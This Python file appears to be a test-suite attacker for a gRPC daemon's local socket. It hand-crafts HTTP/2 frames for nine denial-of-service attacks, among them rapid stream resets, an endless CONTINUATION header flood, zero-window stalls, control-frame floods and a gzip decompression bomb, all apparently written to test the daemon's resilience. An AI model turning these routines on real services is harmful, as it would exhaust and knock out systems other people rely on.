# SPDX-License-Identifier: Apache-2.0
"""The program of an attacker's process at the gRPC door: one attack of neighbour.ATTACKS, in frames written by hand.

neighbour.py starts it as another user: grpc_attacker.py DIRECTORY ATTACK [NUMBER=VALUE ...], and talks with it as with
attacker.py. It opens another connection for each one that the daemon closes, and attacks until it is killed.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import select
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

from attacker import Line, Wish, described
from http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    connect,
    frame,
    header,
    message,
    setting,
)  # fmt: skip

CALL = call_headers("/arraybridge.v1.Broker/GetServerInfo")
AT_ONCE = 64  # calls, or other frames, that are written together
STREAMS = 128  # the daemon's grpc_streams_max
PAUSE_S = 0.001  # before the next connection, if the daemon closes it at once


class Connection:
    def __init__(self, attack: Attack) -> None:
        self.socket = connect(attack.path, attack.settings, attack.acknowledges)
        self.socket.setblocking(False)
        self.stream = -1
        self.written = 0  # pieces
        self.left = b""

    def next_stream(self) -> int:
        self.stream += 2
        return self.stream


class Attack:
    """`piece` gives the next bytes of a connection, or nothing when it has written all."""

    def __init__(self, path: str, piece: Callable[[Connection], bytes], settings: bytes = b"", *, acknowledges: bool = True,
                 reads: bool = True, ends: bool = False) -> None:  # fmt: skip
        self.path, self.piece, self.settings = path, piece, settings
        self.acknowledges, self.reads = acknowledges, reads
        self.ends = ends  # each connection when it has written all
        self.lines: list[Line] = []
        self.poll = select.epoll()
        self.connections: dict[int, Connection] = {}

    def open(self) -> None:
        with contextlib.suppress(OSError):
            fresh = Connection(self)
            self.connections[fresh.socket.fileno()] = fresh
            self.poll.register(fresh.socket.fileno(), select.EPOLLOUT | (select.EPOLLIN if self.reads else 0))

    def close(self, connection: Connection) -> None:
        number = connection.socket.fileno()
        self.poll.unregister(number)
        del self.connections[number]
        connection.socket.close()

    def step(self, connection: Connection, events: int) -> None:
        if events & select.EPOLLIN and not connection.socket.recv(1 << 16):
            raise ConnectionError
        if events & (select.EPOLLHUP | select.EPOLLERR):
            raise ConnectionError
        if not events & select.EPOLLOUT:
            return
        if not connection.left:
            connection.left = self.piece(connection)
            connection.written += 1
        if connection.left:
            connection.left = connection.left[connection.socket.send(connection.left) :]
        elif self.ends:
            raise ConnectionError
        else:
            self.poll.modify(connection.socket.fileno(), select.EPOLLIN)

    def run(self, connections: int) -> None:
        while True:
            for _ in range(connections - len(self.connections)):
                self.open()
            for number, events in self.poll.poll(1):
                connection = self.connections[number]
                try:
                    self.step(connection, events)
                except BlockingIOError:
                    continue
                except OSError:
                    self.close(connection)
            if len(self.connections) < connections:
                time.sleep(PAUSE_S)


def call(stream: int, content: bytes = b"", flags: int = END_STREAM) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, flags, stream, message(content))


def resets(path: str) -> Attack:
    """Attack 14: calls that are reset at once."""

    def piece(its: Connection) -> bytes:
        streams = [its.next_stream() for _ in range(AT_ONCE)]
        return b"".join(call(stream, flags=0) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)

    return Attack(path, piece)


def unagreed(path: str) -> Attack:
    """Attack 15: calls without an end, by a client that has not acknowledged the maximum of streams."""
    return Attack(
        path,
        lambda its: b"".join(frame(HEADERS, END_HEADERS, its.next_stream(), CALL) for _ in range(AT_ONCE)),
        acknowledges=False,
    )


def headers(path: str) -> Attack:
    """Attack 16: headers that never end."""
    more = frame(CONTINUATION, 0, 1, header(b"x-a", b"y" * 100) * 150)
    return Attack(path, lambda its: more if its.written else frame(HEADERS, 0, 1, CALL))


def windows(path: str) -> Attack:
    """Attack 17: calls whose answers must not be sent."""

    def piece(its: Connection) -> bytes:
        streams = [its.next_stream() for _ in range(AT_ONCE)]
        return b"".join(call(stream) for stream in streams) if its.stream < 2 * STREAMS else b""

    return Attack(path, piece, setting(INITIAL_WINDOW_SIZE, 0))


def unfinished(path: str) -> Attack:
    """Attack 18: requests of which the last byte is missing."""
    size = 60_000
    parts = [message(bytes(size))[:-1][at : at + 16384] for at in range(0, size, 16384)]

    def piece(its: Connection) -> bytes:
        if its.written >= STREAMS:
            return b""
        stream = its.next_stream()
        return frame(HEADERS, END_HEADERS, stream, CALL) + b"".join(frame(DATA, 0, stream, part) for part in parts)

    return Attack(path, piece)


def control(path: str) -> Attack:
    """Attack 19: control frames that must be answered, or looked at."""
    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    pieces = [frame(SETTINGS, 0, 0), frame(SETTINGS, ACK, 0), frame(PING, ACK, 0, bytes(8)), update, frame(DATA, 0, 1)]
    return Attack(path, lambda its: pieces[its.socket.fileno() % len(pieces)] * AT_ONCE)


def ends(path: str) -> Attack:
    """Attack 20: connections that end with all their calls in progress."""
    calls = b"".join(call(1 + 2 * index) for index in range(STREAMS))
    return Attack(path, lambda its: b"" if its.written else calls, ends=True)


def answers(path: str) -> Attack:
    """Attack 21: the largest answers, which must not be sent."""
    line = described(Wish(str(Path(path).parent), ["shares=512"]))
    token = header(b"arraybridge-session", line.token.hex().encode())
    ask = call_headers("/arraybridge.v1.Broker/List") + token

    def piece(its: Connection) -> bytes:
        if its.written >= STREAMS:
            return b""
        stream = its.next_stream()
        return frame(HEADERS, END_HEADERS, stream, ask) + frame(DATA, END_STREAM, stream, message())

    attack = Attack(path, piece, setting(INITIAL_WINDOW_SIZE, 0))
    attack.lines.append(line)  # its session goes on
    return attack


def bombs(path: str) -> Attack:
    """Attack 22: requests that are a thousand times as large when they are decompressed."""
    content = gzip.compress(bytes(60_000_000))
    bomb = b"\1" + struct.pack(">I", len(content)) + content
    parts = [bomb[at : at + 16384] for at in range(0, len(bomb), 16384)]
    ask = CALL + header(b"grpc-encoding", b"gzip")

    def piece(its: Connection) -> bytes:
        stream = its.next_stream()
        data = [frame(DATA, END_STREAM * (part is parts[-1]), stream, part) for part in parts]
        return frame(HEADERS, END_HEADERS, stream, ask) + b"".join(data)

    return Attack(path, piece)


STAGES = {stage.__name__: stage for stage in (resets, unagreed, headers, windows, unfinished, control, ends, answers, bombs)}


def main() -> None:
    directory, name, *words = sys.argv[1:]
    numbers = dict(word.split("=") for word in words)
    attack = STAGES[name](f"{directory}/broker.sock")
    print(json.dumps(numbers), flush=True)
    sys.stdin.readline()
    attack.run(int(numbers["connections"]))


if __name__ == "__main__":
    main()
